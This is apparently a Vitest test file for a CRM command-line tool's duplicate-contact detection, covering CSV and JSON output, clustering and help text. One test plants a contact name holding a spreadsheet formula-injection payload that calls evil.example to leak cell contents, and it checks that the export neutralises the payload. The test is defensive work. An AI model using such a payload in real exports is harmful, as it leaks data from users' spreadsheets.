import { parse } from 'csv-parse/sync';
import { Command, CommanderError } from 'commander';
import { beforeAll, describe, expect, it } from 'vitest';
import { createContact } from '../crm/index.js';
import { plantDuplicates } from '../identity/review/testing/planted-duplicates.js';
import { systemActor } from '../platform/context.js';
import { buildWorkspace, testApp, type TestApp } from '../platform/testing/test-app.js';
import { identityDuplicatesCommand, identityResolveCommand, registerIdentityCommand, type DuplicatesOptions } from './identity.command.js';

let t: TestApp;
let workspaceId: string;
let slug: string;
let planted: Awaited<ReturnType<typeof plantDuplicates>>;

beforeAll(async () => {
  t = await testApp();
  const ws = await buildWorkspace(t.db);
  workspaceId = ws.workspaceId;
  planted = await plantDuplicates({ workspaceId, actor: systemActor(), db: t.db, requestId: 'test' }, 60);
  const { rows } = await t.db.query<{ slug: string }>('SELECT slug FROM workspaces WHERE id = $1', [workspaceId]);
  slug = rows[0]!.slug;
});

async function run(options: Partial<DuplicatesOptions>): Promise<string> {
  let text = '';
  await identityDuplicatesCommand(t.db, { format: 'csv', status: 'open', workspace: workspaceId, ...options }, (chunk) => (text += chunk));
  return text;
}

describe('rapport identity', () => {
  it('resolve runs the full pass on the workspace named by its slug and prints the counts', async () => {
    let text = '';
    await identityResolveCommand(t.db, { workspace: slug }, (chunk) => (text += chunk));
    expect(text).toMatch(new RegExp(`^Resolved ${planted.contacts} contacts in [\\d.]+ s:`));
    expect(text).toMatch(/\d+ likely duplicates and \d+ to review/);
    expect(text).toContain('0 identities matched');
  });

  it('duplicates prints the open pairs as CSV, strongest first, with their evidence', async () => {
    const rows = parse(await run({}), { columns: true }) as Record<string, string>[];
    expect(Object.keys(rows[0]!)).toEqual([
      'left_id',
      'left_name',
      'right_id',
      'right_name',
      'probability',
      'weight',
      'decision',
      'evidence',
    ]);
    const pairs = rows.map((row) => [row.left_id, row.right_id].sort().join(' '));
    for (const [a, b] of planted.duplicates) expect(pairs).toContain([a, b].sort().join(' '));
    const probabilities = rows.map((row) => Number(row.probability));
    expect(probabilities).toEqual([...probabilities].sort((a, b) => b - a));
    const margaret = rows.find((row) => row.left_name?.includes('Thistlewood'))!;
    expect(margaret.evidence).toMatch(/(^|;)phone=[^;]+\(\+[\d.]+\)/);
    expect(['link', 'review']).toContain(margaret.decision);
  });

  it('duplicates --clusters prints one row per contact with its group', async () => {
    const rows = parse(await run({ clusters: true }), { columns: true }) as Record<string, string>[];
    expect(Object.keys(rows[0]!)).toEqual(['cluster', 'contact_id', 'name', 'emails']);
    const clusterOf = new Map(rows.map((row) => [row.contact_id, row.cluster]));
    for (const [a, b] of planted.duplicates) expect(clusterOf.get(a)).toBe(clusterOf.get(b));
    const margaret = rows.find((row) => row.name === 'Margaret Thistlewood')!;
    expect(margaret.emails).toBe('margaret.thistlewood@globex.net');
    expect(new Set(rows.map((row) => row.contact_id)).size).toBe(rows.length);
  });

  it('duplicates writes a name that reads as a formula as text, so a spreadsheet does not run it', async () => {
    const ws = await buildWorkspace(t.db);
    const ctx = { workspaceId: ws.workspaceId, actor: systemActor(), db: t.db, requestId: 'test' };
    await plantDuplicates(ctx, 60);
    const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Ann")';
    const person = {
      firstName: formula,
      lastName: 'Able',
      emails: [{ address: 'ann.able@example.test' }],
      phones: [{ number: '+44 7700 900555' }],
    };
    await createContact(ctx, person);
    await createContact(ctx, { ...person, phones: [] });
    await identityResolveCommand(t.db, { workspace: ws.workspaceId }, () => {});
    const names = async (options: Partial<DuplicatesOptions>, columns: string[]) =>
      (parse(await run({ workspace: ws.workspaceId, ...options }), { columns: true }) as Record<string, string>[]).flatMap((row) =>
        columns.map((column) => row[column]!),
      );
    const paired = (await names({}, ['left_name', 'right_name'])).filter((name) => name.includes('HYPERLINK'));
    expect(paired).toEqual([`'${formula} Able`, `'${formula} Able`]);
    const grouped = (await names({ clusters: true }, ['name'])).filter((name) => name.includes('HYPERLINK'));
    expect(grouped).toEqual([`'${formula} Able`, `'${formula} Able`]);
  });

  it('duplicates --format json prints the pairs, or the groups, as JSON', async () => {
    const pairs = JSON.parse(await run({ format: 'json' })) as { leftId: string; evidence: unknown[] }[];
    expect(pairs.length).toBeGreaterThanOrEqual(planted.duplicates.length);
    expect(pairs[0]!.evidence.length).toBeGreaterThan(0);
    const members = JSON.parse(await run({ format: 'json', clusters: true })) as { cluster: number }[];
    expect(members[0]!.cluster).toBe(1);
    expect(JSON.parse(await run({ format: 'json', status: 'dismissed' }))).toEqual([]);
  });

  it('registers resolve and duplicates with their help', async () => {
    let output = '';
    const program = new Command().name('rapport').exitOverride();
    registerIdentityCommand(program);
    const identity = program.commands.find((command) => command.name() === 'identity')!;
    expect(identity.commands.map((command) => command.name())).toEqual(['resolve', 'duplicates']);
    for (const command of [program, identity, ...identity.commands])
      command.exitOverride().configureOutput({ writeOut: (s) => (output += s), writeErr: (s) => (output += s) });
    const help = await program.parseAsync(['node', 'rapport', 'identity', 'duplicates', '--help']).catch((error: unknown) => error);
    expect(help).toBeInstanceOf(CommanderError);
    expect(output).toContain('--clusters');
    expect(output).toContain('--format <format>');
    const wrong = await program
      .parseAsync(['node', 'rapport', 'identity', 'duplicates', '--format', 'xml'])
      .catch((error: unknown) => error);
    expect((wrong as CommanderError).code).toBe('commander.invalidArgument');
  });
});
